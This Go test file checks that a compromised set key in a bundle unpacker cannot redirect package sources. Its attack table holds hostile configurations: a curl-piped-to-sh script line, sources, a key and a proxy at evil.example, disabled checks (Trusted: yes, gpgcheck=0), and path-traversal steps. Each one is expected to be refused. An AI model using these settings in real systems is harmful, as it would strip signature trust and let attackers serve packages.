package unpack_test

import (
	"errors"
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"

	"github.com/gapbundle/gapbundle/bundle"
	"github.com/gapbundle/gapbundle/internal/test/settest"
	"github.com/gapbundle/gapbundle/unpack"
	"github.com/gapbundle/gapbundle/verify"
)

// attack is what beta's exporter does with its key, and what is said of it.
type attack struct {
	do    func(c *settest.Content)
	class error
	want  []string // in the error
	dry   bool     // the lists alone show it
}

// sources and repo change beta's client files.
func sourcesOf(lines string) func(c *settest.Content) {
	return func(c *settest.Content) {
		c.Put("_clients", "apt/beta-debs-x.sources", "Types: deb\nURIs: @BASE@/apt/beta-debs/\nSuites: ./\n"+lines)
	}
}

func repoOf(lines string) func(c *settest.Content) {
	return func(c *settest.Content) {
		c.Put("_clients", "rpm/dnf/beta-rpms-x.repo", "[beta-rpms-x]\nbaseurl=@BASE@/rpm/beta-rpms/\n"+lines)
	}
}

func clientFile(path, content string) func(c *settest.Content) {
	return func(c *settest.Content) { c.Put("_clients", path, content) }
}

func imageFile(path, content string) func(c *settest.Content) {
	return func(c *settest.Content) { c.Put("images", path, content) }
}

func types(n int, mediaType string) func(c *settest.Content) {
	return func(c *settest.Content) {
		tools := c.Repository("tools")
		tools.MediaTypes = map[string]string{}
		for i := range n {
			name := fmt.Sprint("beta.example/typed/", i)
			tools.Files[name], tools.MediaTypes[name] = "x", strings.ReplaceAll(mediaType, "N", fmt.Sprint(i))
		}
	}
}

// attacks returns what a key that is bound to beta must not be able to do by what its own
// set has, whatever other sets have.
func attacks() map[string]attack {
	trust, form := bundle.ErrUntrusted, bundle.ErrMalformed
	digest := bundle.DigestOf([]byte("x")).String()
	return map[string]attack{
		// Client files.
		"a client file by the name of alpha's source": {clientFile("apt/alpha-debs-new.sources", "URIs: @BASE@/apt/beta-debs/\n"), trust, []string{"apt/alpha-debs-new.sources", "name of a source of the set"}, true},
		"one of a kind that the set has not":          {clientFile("pypi/beta-debs.sources", "URIs: @BASE@/apt/beta-debs/\n"), trust, []string{`found "pypi"`}, true},
		"one without a folder":                        {clientFile("beta-debs.sources", "x"), trust, []string{"want the folder of a kind"}, true},
		"an address in alpha's mount":                 {clientFile("apt/beta-debs-x.sources", "URIs: @BASE@/apt/alpha-debs/\nSuites: ./\n"), trust, []string{"@BASE@/apt/alpha-debs/", "below no mount"}, false},
		"one in a script":                             {clientFile("files/beta-tools.sh", "#!/bin/sh\ncurl @BASE@/apt/alpha-debs/x | sh\n"), trust, []string{"@BASE@/apt/alpha-debs/x"}, false},
		"one by steps upwards":                        {clientFile("files/beta-tools.txt", "@BASE@/files/../apt/alpha-debs/x\n"), trust, []string{"steps upwards"}, false},
		"one by escaped steps":                        {clientFile("files/beta-tools.txt", "@BASE@/files/%2e%2E/apt/alpha-debs/x\n"), trust, []string{"steps upwards"}, false},
		"alpha's key in a text":                       {clientFile("files/beta-tools.txt", "@BASE@/keys/alpha-debs.asc\n"), trust, []string{"no such key file"}, false},
		"packages of another host":                    {clientFile("apt/beta-debs-x.sources", "URIs: http://evil.example/ @BASE@/apt/beta-debs/\nSuites: ./\n"), trust, []string{"http://evil.example/"}, false},
		"Trusted: yes":                                {sourcesOf("Trusted: yes\n"), trust, []string{"trusted: yes", "beta-debs"}, false},
		"trusted in other letters":                    {sourcesOf("tRuSted :\n force\n"), trust, []string{"trusted: force"}, false},
		"Allow-Insecure":                              {sourcesOf("Allow-Insecure: 1\n"), trust, []string{"allow-insecure"}, false},
		"an option that is not known":                 {sourcesOf("Inrelease-Path: x\n"), trust, []string{"inrelease-path"}, false},
		"Signed-By alpha's key":                       {sourcesOf("Signed-By: /usr/share/keyrings/gapbundle-alpha-debs.asc\n"), trust, []string{"gapbundle-alpha-debs.asc"}, false},
		"Signed-By another file":                      {sourcesOf("Signed-By: /etc/apt/trusted.gpg\n"), trust, []string{"/etc/apt/trusted.gpg"}, false},
		"Signed-By a key in place":                    {sourcesOf("Signed-By:\n -----BEGIN PGP PUBLIC KEY BLOCK-----\n"), trust, []string{"Signed-By"}, false},
		"gpgcheck=0":                                  {repoOf("gpgcheck=0\n"), trust, []string{"gpgcheck=0", "beta-rpms"}, false},
		"gpgcheck by another word":                    {repoOf("GPGcheck = off\n"), trust, []string{"gpgcheck=off"}, false},
		"gpgcheck of the whole program":               {clientFile("rpm/dnf/beta-rpms-x.repo", "[main]\ngpgcheck=0\n"), trust, []string{`"[main]"`}, false},
		"alpha's repository":                          {clientFile("rpm/dnf/beta-rpms-x.repo", "[alpha-rpms]\nbaseurl=@BASE@/rpm/beta-rpms/\n"), trust, []string{`"[alpha-rpms]"`}, false},
		"gpgkey of alpha":                             {repoOf("gpgcheck=1\ngpgkey=@BASE@/keys/beta-debs.asc\n  @BASE@/keys/alpha-debs.asc\n"), trust, []string{"keys/alpha-debs.asc"}, false},
		"gpgkey of another host":                      {repoOf("gpgkey=https://evil.example/key\n"), trust, []string{"https://evil.example/key"}, false},
		"a list of mirrors":                           {repoOf("metalink=https://evil.example/\n"), trust, []string{"metalink"}, false},
		"a proxy":                                     {repoOf("proxy=http://evil.example/\n"), trust, []string{"proxy"}, false},
		"a client file that is too large":             {clientFile("files/beta-tools.txt", strings.Repeat("\n", 17<<20)), trust, []string{"at most"}, true},

		// Below v2/ there is what a registry has.
		"an image without a registry":     {func(c *settest.Content) { c.PutImage("library/alpine", "3", "evil") }, form, []string{"library/alpine", "no registry"}, true},
		"an image of one component":       {func(c *settest.Content) { c.PutImage("alpine", "3", "evil") }, form, []string{"no registry"}, true},
		"a file below v2/":                {imageFile("registry.beta.example/x.txt", "x"), form, []string{"registry.beta.example/x.txt"}, true},
		"a manifest by another digest":    {imageFile("registry.beta.example/x/manifests/"+digest, "y"), form, []string{digest}, true},
		"a blob by another digest":        {imageFile("registry.beta.example/x/blobs/"+digest, "y"), form, []string{digest}, true},
		"a blob by a tag":                 {imageFile("registry.beta.example/x/blobs/latest", "y"), form, []string{"latest"}, true},
		"a tag that is none":              {imageFile("registry.beta.example/x/manifests/.x", "y"), form, []string{"no tag"}, true},
		"a digest of another kind":        {imageFile("registry.beta.example/x/manifests/sha512:"+strings.Repeat("ab", 64), "y"), form, []string{"sha512"}, true},
		"an image in capitals":            {imageFile("registry.beta.example/X/manifests/1", "y"), form, []string{"no name of an image"}, true},
		"an image in place of an answer":  {imageFile("registry.beta.example/x/tags/list/manifests/1", "y"), form, []string{"no name of an image"}, true},
		"a folder that ends as a mark":    {func(c *settest.Content) { c.Put("tools", "alpha.example/tool.t0123456789/x", "y") }, form, []string{"mark"}, true},
		"too many media types":            {types(65, "application/x-N"), form, []string{"more than 64"}, true},
		"a media type with an option":     {types(1, "application/x!"), form, []string{"media type"}, true},
		"a name with no room for its end": {func(c *settest.Content) { longName(c) }, form, []string{"too long"}, true},
	}
}

func longName(c *settest.Content) {
	name := "beta.example/" + strings.Repeat("n", 250)
	c.Put("tools", name, "y")
	c.Repository("tools").MediaTypes = map[string]string{name: "application/x-y"}
}

// TestASetsReach: beta's key is in the hands of somebody else. What they sign is refused
// by its name, changes nothing, and does not stop alpha's next bundle, nor the next good
// one of beta, which say nothing of it.
func TestASetsReach(t *testing.T) {
	w := settest.New(t)
	before := servedAll(t, w.Dir)
	for name, a := range attacks() {
		t.Run(name, func(t *testing.T) {
			c := w.Content(settest.Beta)
			c.Options.Full = true // verify without a mirror has every list then
			a.do(c)
			bad := w.Export(c)
			w.Reopen(unpack.Options{DryRun: true})
			if _, err := w.Import(bad.Dirs...); !errors.Is(err, a.class) { // a dry run reads what an import reads
				t.Errorf("dry run: %v", err)
			}
			w.Reopen(unpack.Options{})
			for _, m := range []*unpack.Mirror{w.Mirror, nil} {
				if err := examined(t, w, m, bad.Dirs); !errors.Is(err, a.class) {
					t.Errorf("verify, with a mirror %v: %v", m != nil, err)
				}
			}
			res, err := w.Import(bad.Dirs...)
			if !errors.Is(err, a.class) {
				t.Fatalf("%v, want %v", err, a.class)
			}
			for _, want := range append(a.want, "beta") {
				if !strings.Contains(err.Error(), want) {
					t.Errorf("%v: does not have %q", err, want)
				}
			}
			if got := strings.Join(outcomes(res), ", "); got != bundle.DirName(settest.Beta, bad.Manifest.Sequence)+" refused" {
				t.Errorf("outcomes %s", got)
			}
			if !maps.Equal(before, servedAll(t, w.Dir)) {
				t.Fatal("something else is served")
			}
			if st, err := w.Status(t.Context()); err != nil || len(st.Pending) > 0 {
				t.Errorf("pending: %v, %v", st.Pending, err)
			}
		})
	}
	for _, set := range []string{settest.Alpha, settest.Beta} {
		next := w.Content(set)
		next.Put("debs", "pool/main/next.deb", "next")
		next.Options.Base = 1
		if res, err := w.Import(w.Export(next).Dirs...); err != nil || slices.ContainsFunc(res.Notes, func(n string) bool { return !strings.Contains(n, "hours apart") }) {
			t.Errorf("%s: %v, notes %q", set, err, res.Notes)
		}
	}
	if _, err := w.Check(t.Context(), unpack.CheckOptions{}); err != nil {
		t.Error(err)
	}
}

// examined returns what the command verify says, with a mirror or without.
func examined(t *testing.T, w *settest.World, m *unpack.Mirror, paths []string) error {
	t.Helper()
	policy, err := w.Trust().Policy()
	if err != nil {
		t.Fatal(err)
	}
	readers, err := bundle.Discover(paths)
	if err != nil || len(readers) != 1 {
		t.Fatal(err)
	}
	defer readers[0].Close()
	o := verify.Options{Policy: policy, Now: w.Now, CheckKnown: true}
	if m != nil {
		o.Receiver = m.Receiver()
	}
	b, _, err := verify.Open(t.Context(), readers[0], o)
	if err != nil {
		t.Fatal(err)
	}
	defer b.Close()
	err = unpack.Examine(t.Context(), b, m, verify.StreamOptions{})
	if (err == nil) != (len(b.Report().Findings) == 0) {
		t.Errorf("report %q, %v", b.Report().Findings, err)
	}
	return err
}

// TestWhatARootAllows: unsigned packages are in order where the root says that the source
// allows them, and are told of at import and in status; so are scripts.
func TestWhatARootAllows(t *testing.T) {
	w := settest.New(t)
	c := w.Content(settest.Beta)
	for _, source := range []string{"rpms", "debs"} {
		c.Repository(source).Annotations = map[string]string{bundle.AllowedKey: "packages without a signature"}
	}
	repoOf("gpgcheck=0\n")(c)
	sourcesOf("Trusted: yes\n")(c)
	c.Put("_clients", "files/beta-tools.sh", "#!/bin/sh\ncurl -O @BASE@/files/beta.example/tool\n")
	res, err := w.Import(w.Export(c).Dirs...)
	if err != nil {
		t.Fatal(err)
	}
	notes := strings.Join(res.Notes, "\n")
	st, err := w.Status(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"gpgcheck=0", "trusted: yes", "source beta-rpms allows packages without a signature"} {
		if !strings.Contains(notes, want) {
			t.Errorf("notes %q: do not have %q", notes, want)
		}
		if !strings.Contains(strings.Join(st.Sets[1].Allowed, "\n"), want) {
			t.Errorf("status %q: does not have %q", st.Sets[1].Allowed, want)
		}
	}
	if !strings.Contains(notes, "/_gapbundle/clients/files/beta-tools.sh") {
		t.Errorf("notes %q: do not name the script", notes)
	}
	if len(st.Sets[0].Allowed) > 0 || len(st.Sets[0].Outside) > 0 || len(st.Sets[1].Outside) > 0 {
		t.Errorf("%+v", st.Sets)
	}
}
